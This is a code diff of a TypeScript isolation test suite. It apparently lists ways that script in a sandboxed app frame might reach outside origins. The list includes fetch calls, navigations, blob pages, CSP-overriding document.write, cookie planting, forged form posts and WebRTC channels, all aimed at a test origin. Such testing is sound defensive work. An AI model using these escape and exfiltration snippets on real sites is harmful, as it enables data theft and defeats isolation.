@@ -1,18 +1,12 @@
-import type { RecordingServer } from "./recording-server.ts";
+import type { Vector } from "./vector.ts";
+import { HELPERS } from "./vectors-of-helpers.ts";
+import { INNER_GLOBALS } from "./vectors-of-inner-frames.ts";
+import { MORE_NAVIGATIONS, MORE_REQUESTS, MORE_RESOURCES } from "./vectors-of-requests.ts";
 import { connectWith, documentAddress, SRCDOC, writeDocument } from "./webrtc.ts";
 
-/**
- * `script` runs once per outside origin after a real click. In scope: `out` (that origin), `site` (the product's),
- * `udp` (address and port), `leak` (reports a secret), `add` (appends an element).
- * `markup` is in the document from the start, with OUT for an outside origin.
- */
-export type Vector = {
-  name: string;
-  script?: string;
-  markup?: string;
-  /** False if even an unguarded page fails in Chromium; the headless one ignores most hints. */
-  worksUnguarded?: false;
-};
+function alone(vectors: Array<Vector>): Array<Vector> {
+  return vectors.map((vector) => ({ ...vector, isAlone: true }));
+}
 
 const requests: Array<Vector> = [
   { name: "fetch", script: `await fetch(out + "/fetch", { mode: "no-cors" })` },
@@ -46,6 +40,7 @@ const resources: Array<Vector> = [
   { name: "embed", markup: `<embed src="OUT/embed">` },
   {
     name: "base address",
+    isAlone: true,
     script: `(document.querySelector("base") ?? add("base", {})).href = out + "/"; new Image().src = "/based"; await new Promise(setTimeout)`,
   },
   { name: "manifest", markup: `<link rel="manifest" href="OUT/manifest">`, worksUnguarded: false },
@@ -65,7 +60,8 @@ const hints: Array<Vector> = [
   { name: "ping of a link", script: `add("a", { href: "#x", ping: out + "/ping" }).click()` },
 ];
 
-export const NAVIGATIONS: Array<Vector> = [
+export const NAVIGATIONS: Array<Vector> = alone([
+  ...MORE_NAVIGATIONS,
   { name: "location.href", script: `location.href = out + "/href"` },
   { name: "location.replace", script: `location.replace(out + "/replace")` },
   { name: "navigation.navigate", script: `navigation.navigate(out + "/navigate")` },
@@ -98,7 +94,7 @@ export const NAVIGATIONS: Array<Vector> = [
     name: "window.open of a blank page",
     script: `const w = window.open("about:blank"); w.eval("fetch('" + out + "')")`,
   },
-];
+]);
 
 const detours: Array<Vector> = [
   {
@@ -127,6 +123,7 @@ const detours: Array<Vector> = [
   },
   {
     name: "frame navigating to a blob page",
+    isAlone: true,
     script: `location = URL.createObjectURL(new Blob(["<script>fetch('" + out + "', { mode: 'no-cors' })<\\/script>"], { type: "text/html" }))`,
   },
   {
@@ -135,6 +132,7 @@ const detours: Array<Vector> = [
   },
   {
     name: "document.write with a meta policy of its own",
+    isAlone: true,
     script: `document.write("<meta http-equiv='Content-Security-Policy' content='default-src *'><img src='" + out + "/written'>")`,
   },
   {
@@ -186,9 +184,15 @@ const secrets: Array<Vector> = [
   {
     name: "form to the product",
     script: `add("form", { action: site + "/api/act", method: "post" }).submit()`,
+    isAlone: true,
     worksUnguarded: false,
   },
-  { name: "the frame opening the product", script: `location = site + "/api/me"`, worksUnguarded: false },
+  {
+    name: "the frame opening the product",
+    script: `location = site + "/api/me"`,
+    worksUnguarded: false,
+    isAlone: true,
+  },
   {
     name: "cookie for the product's domain",
     script: `document.cookie = "planted=1; domain=localhost; path=/"; document.cookie = "planted=1; domain=.localhost; path=/"; document.cookie = "planted=1; domain=apps.localhost; path=/"`,
@@ -242,43 +246,31 @@ export const WEBRTC: Array<Vector> = [
 ];
 
 /** Frames whose global an app takes by index before any script of ours runs in it. */
-export const WEBRTC_OF_INNER_FRAMES: Array<Vector> = [
+export const WEBRTC_OF_INNER_FRAMES: Array<Vector> = alone([
+  ...INNER_GLOBALS,
   ...(["offer", "answer", "candidate"] as const).map((way) => ({
     name: `WebRTC ${way} of a frame by its index`,
     script: connectWith(`${frameByIndex}.RTCPeerConnection`, way),
   })),
   { name: "WebRTC in a document written into a frame", script: writeDocument(frameByIndex) },
-];
+]);
 
 export const VECTORS = [
   ...WEBRTC,
   ...WEBRTC_OF_INNER_FRAMES,
   ...requests,
+  ...MORE_REQUESTS,
   ...resources,
+  ...MORE_RESOURCES,
   ...hints,
   ...NAVIGATIONS,
   ...detours,
   ...secrets,
+  ...HELPERS,
 ];
 
-export function vectorPage(
-  { script = "", markup = "" }: Vector,
-  outside: Pick<RecordingServer, "origins" | "udp">,
-  siteOrigin: string,
-) {
-  const marked = outside.origins.map((origin) => markup.replaceAll("OUT", origin)).join("");
-  return `<!doctype html><html><head><meta charset="utf-8"><title>An app</title></head><body style="margin:0;height:100vh">${marked}<script>
-    const site = ${JSON.stringify(siteOrigin)}, udp = ${JSON.stringify(outside.udp)};
-    const say = (message) => parent.postMessage(message, "*");
-    const leak = (value) => say({ type: "leak", value: String(value) });
-    const add = (tag, props) => { const e = Object.assign(document.createElement(tag), props); document.body.append(e); return e; };
-    addEventListener("click", async (event) => {
-      if (!event.isTrusted) return;
-      say({ type: "trying" });
-      await new Promise((done) => setTimeout(done, 50));
-      for (const out of ${JSON.stringify(outside.origins)}) { try { await (async () => { ${script} })(); } catch (error) {} }
-      say({ type: "tried" });
-    });
-    say({ type: "loaded" });
-  </script></body></html>`;
-}
+const ADDED = new Set(
+  [...MORE_REQUESTS, ...MORE_RESOURCES, ...MORE_NAVIGATIONS, ...INNER_GLOBALS, ...HELPERS].map(({ name }) => name),
+);
+/** Those of the table of other browsers in docs/isolation.md. */
+export const VECTORS_OF_OTHER_BROWSERS = VECTORS.filter(({ name }) => !ADDED.has(name));
